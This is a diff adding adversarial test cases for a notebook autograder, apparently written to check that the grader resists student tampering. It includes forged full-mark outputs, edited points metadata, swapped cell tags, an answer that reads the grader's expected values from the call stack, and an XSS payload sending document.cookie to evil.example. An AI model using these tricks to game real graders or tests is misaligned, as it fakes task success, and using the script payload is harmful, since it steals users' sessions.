+        if "points" in cell["metadata"].get("nbgrader", {}):
+            cell["metadata"]["nbgrader"]["points"] = 1000
+
+
+@attack("outputs of full marks stored in the test cells")
+def _forged_outputs(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    for ident, text in (("softmax-values", "inf"), ("softmax-stable", "nan")):
+        output = {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
+        s.cell(ident)["outputs"] = [output]
+
+
+@attack("a test cell turned into an answer cell")
+def _test_as_answer(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    s.cell("softmax-values")["metadata"]["nbgrader"] |= {"solution": True, "grade": False}
+
+
+@attack("the tags of an answer and a test exchanged", (0.0, REST))
+def _exchanged_tags(s: Student) -> None:
+    s.set("softmax", ZEROS)
+    a, b = s.cell("softmax")["metadata"], s.cell("softmax-values")["metadata"]
+    a["nbgrader"], b["nbgrader"] = b["nbgrader"], a["nbgrader"]
+
+
+@attack("scripts and HTML in markdown, outputs and errors", FULL)
+def _scripts(s: Student) -> None:
+    evil = "<script>fetch('https://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>"
+    s.add(evil + "\n\n[x](javascript:alert(1)) ![p](https://evil.example/p.png)", kind="markdown")
+    s.add(
+        f"from IPython.display import HTML, display\ndisplay(HTML({evil!r}))\nprint({evil!r})\nraise ValueError({evil!r})"
+    )
+
+
+@attack("an answer that recognises how it is called", (0.0, REST))
+def _recognises_the_grader(s: Student) -> None:
+    s.set(
+        "softmax",
+        _code("""
+        def softmax(logits):
+            import sys
+            frame = sys._getframe(1)
+            while frame:
+                for value in list(frame.f_locals.values()):
+                    if isinstance(value, torch.Tensor) and value is not logits and value.shape == logits.shape:
+                        if bool(((value.sum(-1) - 1).abs() < 1e-3).all()) and bool((value >= 0).all()):
+                            return value
+                frame = frame.f_back
+            return torch.zeros_like(logits)
+        """),
+    )
